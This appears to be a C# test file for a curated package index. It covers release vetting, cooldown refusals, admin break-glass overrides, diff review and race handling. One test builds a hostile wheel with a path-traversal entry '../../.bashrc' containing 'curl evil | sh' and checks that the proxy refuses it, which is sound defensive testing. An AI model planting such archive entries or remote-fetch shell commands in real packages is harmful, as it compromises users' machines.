using System.Net;
using System.Text;
using CuratedIndex.Data;
using CuratedIndex.Features.Accounts;
using CuratedIndex.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace CuratedIndex.Tests.Features.Releases;

/// <summary>The release queue and the release page over HTTP, parsed with AngleSharp.</summary>
public sealed class ReleaseUiTests
{
    private const string Policy = "approve: [zipp, six]\ncooldown:\n  zipp: 0d\n";

    [Fact]
    public async Task ReleasePage_ReviewerVets_TheDecisionAndPinsShow_AndTier3ServesIt()
    {
        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
        using var session = await UiSession.SignedInAsync(servers.Proxy, "rita", Roles.Reviewer);

        var (before, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.6.0");
        using var vet = await session.SubmitAsync("ui/projects/zipp/releases/3.6.0", "#release-form", ("Action", "vet"), ("Criteria", "safe-to-run"), ("Reason", "read every line"));
        var (_, after, _) = await session.GetAsync(vet.Headers.Location!.OriginalString.TrimStart('/'));
        var (_, queue, _) = await session.GetAsync("ui/releases?status=all&project=zipp");

        Assert.Equal(HttpStatusCode.OK, before.StatusCode);
        Assert.Equal("pending", page.QuerySelector("#release-status")!.TextContent);
        Assert.Null(page.QuerySelector("#BreakGlass"));
        Assert.Equal(HttpStatusCode.Redirect, vet.StatusCode);
        Assert.Equal("vetted", after.QuerySelector("#release-status")!.TextContent);
        Assert.Contains("vetted safe-to-run by reviewer rita", after.QuerySelector("#decision-summary")!.TextContent, StringComparison.Ordinal);
        Assert.Equal("pinned", after.QuerySelector("tr[data-file='zipp-3.6.0-py3-none-any.whl'] .pin")!.TextContent);
        Assert.Equal(["zipp==3.6.0", "zipp==3.7.0"], queue.QuerySelectorAll("tr.release").Select(r => r.GetAttribute("data-release")!).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task ReleasePage_InsideTheCooldown_ReviewerIsRefused_AdminBreaksGlass_AndThePageSaysSo()
    {
        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
        using var reviewer = await UiSession.SignedInAsync(servers.Proxy, "rita", Roles.Reviewer);
        using var admin = await UiSession.SignedInAsync(servers.Proxy, "ada", Roles.Admin);

        using var refused = await reviewer.SubmitAsync("ui/projects/six/releases/1.17.0", "#release-form", ("Action", "vet"), ("Criteria", "safe-to-deploy"), ("Reason", "looks fine"));
        var refusedPage = await UiSession.ParseAsync(await refused.Content.ReadAsStringAsync());
        using var glass = await admin.SubmitAsync("ui/projects/six/releases/1.17.0", "#release-form", ("Action", "vet"), ("Criteria", "safe-to-deploy"), ("Reason", "security fix needed today"), ("BreakGlass", "true"));
        var (_, after, _) = await admin.GetAsync("ui/projects/six/releases/1.17.0");

        Assert.Equal(HttpStatusCode.Conflict, refused.StatusCode);
        Assert.Contains("inside its cooldown", refusedPage.QuerySelector("#decision-problem")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Redirect, glass.StatusCode);
        Assert.NotNull(after.QuerySelector("#break-glass"));
        Assert.Equal(1, await servers.Proxy.QueryAsync(db => db.AuditRecords.CountAsync(r => r.Action == "release.vet-break-glass" && r.Actor == "ada")));
    }

    [Fact]
    public async Task ReleasePage_ShowsTheSignalsToAViewer_WithoutTheDecisionForm()
    {
        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
        // A sdist-only release after releases with wheels: install-time code where there was none.
        servers.Upstream.AddFile("zipp", "zipp-3.8.0.tar.gz", Encoding.UTF8.GetBytes("sdist with setup.py"), uploadTime: "2024-02-01T00:00:00.000000Z");
        using var session = await UiSession.SignedInAsync(servers.Proxy, "vera", Roles.Viewer);
        await Tier3IntegrationTests.FilesAsync(servers.Proxy, "prod/simple/zipp/");

        var (_, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.8.0");

        Assert.NotNull(page.QuerySelector("li.signal[data-kind='install-time-code']"));
        Assert.Null(page.QuerySelector("#release-form"));
    }

    [Fact]
    public async Task ReleasePage_DiffsAgainstTheLastVettedRelease_AndCountsTheLinesToRead()
    {
        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
        await servers.Proxy.PostJsonAsync("api/v1/projects/zipp/releases/3.6.0/vet", new { reason = "read it" });
        using var session = await UiSession.SignedInAsync(servers.Proxy, "vera", Roles.Viewer);

        var (response, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.7.0");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("3.6.0", page.QuerySelector("#baseline")!.TextContent, StringComparison.Ordinal);
        // Counted independently with git diff --numstat on the two real wheels (ReleaseDiffTests).
        Assert.Equal("9", page.QuerySelector("#lines-to-read strong")!.TextContent);
        Assert.NotEmpty(page.QuerySelectorAll("tr.file-change[data-change='changed']"));
        Assert.NotEmpty(page.QuerySelectorAll("details.unified-diff pre"));
        Assert.Empty(page.QuerySelectorAll(".archive-refusal"));
    }

    [Fact]
    public async Task ReleasePage_HostileArchive_IsRefusedWithTheReasonOnThePage()
    {
        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, inProcess: true);
        servers.Upstream.AddFile("zipp", "zipp-3.9.0-py3-none-any.whl", HostileArchives.Zip(("../../.bashrc", Encoding.UTF8.GetBytes("curl evil | sh\n"))));
        using var session = await UiSession.SignedInAsync(servers.Proxy, "vera", Roles.Viewer);

        var (response, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.9.0");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var refusal = Assert.Single(page.QuerySelectorAll(".archive-refusal"));
        Assert.Contains("zipp-3.9.0-py3-none-any.whl: refused: entry '../../.bashrc' leaves the archive", refusal.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ReleasePage_FileAddedUpstreamWhileTheReviewerReads_IsNotVettedWithTheOthers()
    {
        await using var servers = await TestServers.StartAsync(DatabaseProvider.Sqlite, Policy, new Dictionary<string, string> { ["Upstream:PageMaxAge"] = "00:00:00" }, inProcess: true);
        using var session = await UiSession.SignedInAsync(servers.Proxy, "rita", Roles.Reviewer);
        var (_, page, _) = await session.GetAsync("ui/projects/zipp/releases/3.6.0");
        var form = page.QuerySelector("#release-form")!.QuerySelectorAll("input[type=hidden][name]")
            .Select(i => new KeyValuePair<string, string>(i.GetAttribute("name")!, i.GetAttribute("value") ?? ""))
            .ToList();

        // While the reviewer reads the diff, upstream adds a file to the release.
        servers.Upstream.AddFile("zipp", "zipp-3.6.0.tar.gz", Encoding.UTF8.GetBytes("added while the reviewer read"));
        using var vet = await session.PostAsync("ui/projects/zipp/releases/3.6.0", [.. form, new("Action", "vet"), new("Criteria", "safe-to-deploy"), new("Reason", "read the wheel")]);
        var pinned = await servers.Proxy.QueryAsync(db => db.VettedFiles.Select(f => f.Filename).ToListAsync());

        Assert.Equal(HttpStatusCode.Redirect, vet.StatusCode);
        Assert.Equal(["zipp-3.6.0-py3-none-any.whl"], pinned);
    }
}
